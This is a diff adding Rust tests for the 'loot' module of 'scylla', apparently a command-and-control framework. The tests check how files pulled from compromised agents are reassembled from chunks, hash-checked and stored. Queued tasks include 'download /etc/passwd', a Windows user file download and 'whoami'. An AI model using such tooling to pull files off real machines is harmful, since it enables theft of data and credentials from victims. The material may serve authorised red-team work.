@@ -0,0 +1,103 @@
+use std::fs;
+
+use base64::engine::general_purpose::STANDARD;
+use base64::Engine;
+
+use scylla::db::{Db, Task};
+use scylla::loot::{load_files, sha256_hex, store_download_base64, store_download_chunk, DownloadChunk};
+
+// Base dans son propre répertoire : loot/ est créé à côté
+fn fresh_db(name: &str) -> Db {
+    let dir = std::env::temp_dir().join(format!("scylla-{}-{}", name, std::process::id()));
+    let _ = fs::remove_dir_all(&dir);
+    fs::create_dir_all(&dir).expect("répertoire de test");
+    let db = Db::create(&dir.join("c2.db").display().to_string()).expect("création de la base");
+    db.conn()
+        .execute("INSERT INTO agents (id, hostname, ip) VALUES ('a1', 'alpha', '10.0.0.1')", [])
+        .expect("agent");
+    db
+}
+
+fn task_row(db: &Db, id: i64) -> Task {
+    db.tasks_for_agent("a1").expect("tâches").into_iter().find(|t| t.id == id).expect("tâche")
+}
+
+fn chunk(seq: u32, total: u32, sha256: &str, data: &[u8]) -> DownloadChunk {
+    DownloadChunk { seq, total, sha256: sha256.to_string(), data: STANDARD.encode(data) }
+}
+
+#[test]
+fn chunks_are_reassembled_in_order() {
+    let db = fresh_db("loot-chunks");
+    let task = db.enqueue_task("a1", "download /etc/passwd").expect("tâche");
+    let content = b"root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1::/:/usr/sbin/nologin\n";
+    let sha = sha256_hex(content);
+    let (first, rest) = content.split_at(20);
+    let (second, third) = rest.split_at(20);
+
+    // Dans le désordre : rien n'est écrit avant la dernière tranche
+    assert!(store_download_chunk(db.conn(), task, &chunk(2, 3, &sha, third)).expect("tranche 2").is_none());
+    assert!(store_download_chunk(db.conn(), task, &chunk(0, 3, &sha, first)).expect("tranche 0").is_none());
+    assert!(store_download_chunk(db.conn(), task, &chunk(1, 4, &sha, second)).is_err());
+    let file = store_download_chunk(db.conn(), task, &chunk(1, 3, &sha, second))
+        .expect("tranche 1")
+        .expect("fichier complet");
+
+    assert_eq!(fs::read(&file.local_path).expect("fichier écrit"), content);
+    assert!(file.local_path.ends_with("_passwd"));
+    assert!(file.local_path.contains("/loot/a1/"));
+    assert_eq!((file.size, file.sha256.as_str(), file.remote_path.as_str()), (content.len() as u64, sha.as_str(), "/etc/passwd"));
+    let task_row = task_row(&db, task);
+    assert_eq!((task_row.status.as_str(), task_row.output.as_deref()), ("done", Some(file.local_path.as_str())));
+    assert_eq!(load_files(db.conn(), "a1").expect("fichiers").len(), 1);
+    // Une tâche terminée ne reçoit plus rien
+    assert!(store_download_chunk(db.conn(), task, &chunk(0, 1, &sha, content)).is_err());
+}
+
+#[test]
+fn a_wrong_hash_fails_the_task() {
+    let db = fresh_db("loot-hash");
+    let task = db.enqueue_task("a1", "download C:\\Users\\bob\\notes.txt").expect("tâche");
+    let declared = sha256_hex(b"autre contenu");
+    assert!(store_download_chunk(db.conn(), task, &chunk(0, 1, &declared, b"contenu")).is_err());
+    let task_row = task_row(&db, task);
+    assert_eq!(task_row.status, "failed");
+    assert!(load_files(db.conn(), "a1").expect("fichiers").is_empty());
+
+    // Sortie base64 d'un seul tenant, nom tiré d'un chemin Windows
+    let other = db.enqueue_task("a1", "download C:\\Users\\bob\\notes.txt").expect("tâche");
+    let file = store_download_base64(db.conn(), other, &STANDARD.encode(b"contenu")).expect("fichier");
+    assert!(file.local_path.ends_with("_notes.txt"));
+    assert_eq!(file.sha256, sha256_hex(b"contenu"));
+    // Une tâche ordinaire n'est pas un téléchargement
+    let plain = db.enqueue_task("a1", "whoami").expect("tâche");
+    assert!(store_download_base64(db.conn(), plain, "").is_err());
+}
+
+// loot/ impossible à créer : rien n'est perdu, la dernière tranche renvoyée suffit
+#[test]
+fn a_write_error_keeps_the_chunks() {
+    let db = fresh_db("loot-io");
+    let dir = std::env::temp_dir().join(format!("scylla-loot-io-{}", std::process::id()));
+    fs::write(dir.join("loot"), b"").expect("fichier à la place de loot/");
+    let task = db.enqueue_task("a1", "download /etc/hosts").expect("tâche");
+    let content = b"127.0.0.1 localhost\n";
+    let sha = sha256_hex(content);
+    let (first, second) = content.split_at(10);
+
+    assert!(store_download_chunk(db.conn(), task, &chunk(0, 2, &sha, first)).expect("tranche 0").is_none());
+    assert!(store_download_chunk(db.conn(), task, &chunk(1, 2, &sha, second)).is_err());
+    assert_eq!(task_row(&db, task).status, "pending");
+    let kept: i64 = db.conn()
+        .query_row("SELECT COUNT(*) FROM download_chunks WHERE task_id = ?1", [task], |row| row.get(0))
+        .expect("tranches");
+    // La tranche qui a échoué est annulée avec le reste de la transaction
+    assert_eq!(kept, 1);
+
+    fs::remove_file(dir.join("loot")).expect("suppression");
+    let file = store_download_chunk(db.conn(), task, &chunk(1, 2, &sha, second))
+        .expect("tranche 1")
+        .expect("fichier complet");
+    assert_eq!(fs::read(&file.local_path).expect("fichier écrit"), content);
+    let _ = fs::remove_dir_all(&dir);
+}